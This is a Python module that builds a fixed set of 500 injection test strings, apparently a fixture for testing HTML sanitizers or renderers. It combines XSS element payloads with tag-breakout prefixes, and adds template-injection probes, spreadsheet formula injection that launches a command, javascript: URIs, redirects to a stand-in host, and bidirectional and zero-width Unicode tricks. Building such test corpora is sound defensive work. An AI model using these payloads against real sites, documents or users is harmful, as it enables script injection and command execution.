"""Words that would like to be more than words: 500 of them, made from a list of kinds.

Whatever becomes an element of a page carries the attribute ``pwned``, whatever runs calls ``hit``.
"""

from __future__ import annotations

from itertools import cycle, islice, product

COUNT = 500

_ELEMENTS = (
    "<script pwned>hit({n})</script>",
    '<img pwned src=x onerror="hit({n})">',
    "<svg pwned onload=hit({n})>",
    "<svg pwned><script>hit({n})</script></svg>",
    '<iframe pwned srcdoc="<script>parent.hit({n})</script>"></iframe>',
    '<a pwned href="javascript:hit({n})">here</a>',
    "<body pwned onload=hit({n})>",
    "<details pwned open ontoggle=hit({n})>",
    "<input pwned autofocus onfocus=hit({n})>",
    '<form pwned action="https://elsewhere.example/{n}"><button>go</button></form>',
    '<base pwned href="https://elsewhere.example/{n}/">',
    '<meta pwned http-equiv="refresh" content="0;url=https://elsewhere.example/{n}">',
    "<style pwned>*{{background:url(https://elsewhere.example/{n})}}</style>",
    '<link pwned rel="stylesheet" href="https://elsewhere.example/{n}.css">',
    '<object pwned data="https://elsewhere.example/{n}"></object>',
    '<video pwned><source onerror="hit({n})"></video>',
    "<math pwned><mtext><img src=x onerror=hit({n})></mtext></math>",
    "<template pwned><script>hit({n})</script></template>",
    "<noscript><p pwned title='</noscript><img src=x onerror=hit({n})>'>",
    "<marquee pwned onstart=hit({n})>",
)
"""Elements that do something as soon as they are there."""

_BREAKOUTS = (
    "{x}",
    '">{x}',
    "'>{x}",
    "</title>{x}",
    "</textarea>{x}",
    "</script>{x}",
    "</style>{x}",
    "-->{x}<!--",
    "]]>{x}",
    "</pre></code></blockquote>{x}",
    "</option></select>{x}",
    "\\u0022>{x}",
    "&#34;&gt;{x}",
    "<{x}",
    "`{x}`",
    "[link](javascript:hit(0)) {x}",
    "![alt]({x})",
    "# {x}",
)
"""Ways out of the place where the words stand."""

_OTHERS = (
    "{{{{7*7}}}} {{% for a in b %}} {n}",
    "{{{{ self.__init__.__globals__ }}}} {n}",
    "${{7*7}} #{{7*7}} <%= 7*7 %> {n}",
    "%(count)s %s {{0}} {n}",
    "=cmd|' /C calc'!A{n}",
    "+1+cmd|' /C calc'!A{n}",
    "-2+3+{n}",
    "@SUM(1+{n})",
    '\t=HYPERLINK("https://elsewhere.example/{n}")',
    '" autofocus onfocus="hit({n})" pwned="',
    "' onmouseover='hit({n})' pwned='",
    "javascript:hit({n})",
    "data:text/html,<script>hit({n})</script>",
    "\u202ereversed{n}",
    "\u202d\u2066isolated{n}\u2067and never closed",
    "\u2068first{n}\u202ethen\u2069\u202c",
    "zero\u200bwidth\u200d\u2060{n}\ufeff",
    "\u0627\u0644\u0627\u0633\u0645 {n} \u200fname",
    "\u05e9\u05dd {n} (\u05de\u05d9\u05de\u05d9\u05df)",
    "unbroken" * 60 + "{n}",
    "\u06a9" * 300 + "{n}",
    "\u5b57" * 300 + "{n}",
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 20 + "{n}",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40 + "{n}",
    "```quote\npost: x:{n}\n``` {n}",
    "---\ntitle: other\n--- {n}",
    "}}}}*{{background:red}} {n}",
    "url(javascript:hit({n})) expression(hit({n}))",
)
"""What is dangerous elsewhere: templates, tables, attributes, directions, long words."""


def payloads() -> tuple[str, ...]:
    """All of them, each one once."""
    elements = (way.replace("{x}", one) for one, way in product(_ELEMENTS, _BREAKOUTS))
    made = [one.format(n=n) for n, one in enumerate(elements)]
    others = islice(cycle(_OTHERS), COUNT - len(made))
    made += [one.format(n=n) for n, one in enumerate(others, len(made))]
    assert len(set(made)) == COUNT
    return tuple(made)
